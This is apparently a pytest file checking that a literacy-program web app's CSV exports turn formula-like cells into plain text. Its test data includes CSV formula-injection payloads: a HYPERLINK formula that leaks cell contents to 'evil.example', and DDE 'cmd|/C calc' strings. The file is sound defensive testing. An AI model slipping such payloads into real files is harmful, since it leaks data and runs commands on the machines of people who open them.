"""Every CSV the app writes opens in a spreadsheet as plain text, never as a formula."""
import csv
import io

import pytest

from hue_literacy.content.access import release
from hue_literacy.extensions import db
from hue_literacy.households import services
from hue_literacy.spreadsheets import csv_bytes, safe_cell
from hue_literacy.wards.models import Ward
from tests.factories import AdminFactory, AmbassadorFactory, ward

FORMULA_ADDRESS = '=HYPERLINK("http://evil.example/?leak="&A1;"12 Lê Lợi")'


def read(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("text", ["=1+2", "+84 1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                                  "  =1+2"])
def test_a_cell_that_would_be_a_formula_is_written_as_text(text):
    [[cell]] = read(csv_bytes([[text]]))
    assert cell == "'" + text


def test_ordinary_cells_and_numbers_are_written_unchanged():
    rows = read(csv_bytes([["12 kiệt 34 Phan Đình Phùng", -3, 2.5, None, "a=b", "0912 345 678"]]))
    assert rows == [["12 kiệt 34 Phan Đình Phùng", "-3", "2.5", "", "a=b", "0912 345 678"]]
    assert safe_cell(-3) == -3


def test_the_household_export_neutralises_formulas_in_addresses_and_names(app, client, auth):
    with app.app_context():
        ambassador = AmbassadorFactory(ward=ward("PHUXUAN"))
        checked = services.check_new_household(
            ambassador.ward, FORMULA_ADDRESS, "@cmd|' /C calc'!A0", True,
            [{"full_name": "=2+5+cmd|' /C calc'!A0", "role": "head", "phone": ""}],
        )
        services.register_household(checked, ambassador, release())
        db.session.commit()
    auth.as_user(ambassador)
    rows = read(client.get("/households/export.csv").get_data())
    [row] = rows[1:]
    assert row[1] == "'" + FORMULA_ADDRESS
    assert row[2] == "'@cmd|' /C calc'!A0"
    assert row[3] == "'=2+5+cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_the_city_dashboard_export_neutralises_a_formula_in_a_ward_name(app, client, auth):
    with app.app_context():
        db.session.add(Ward(code="ZZTEST", name="-1+1 Phường thử"))
        admin = AdminFactory()
        db.session.commit()
    auth.as_user(admin)
    rows = read(client.get("/dashboard/city/export.csv").get_data())
    assert ["'-1+1 Phường thử", "ZZTEST"] in [row[:2] for row in rows]
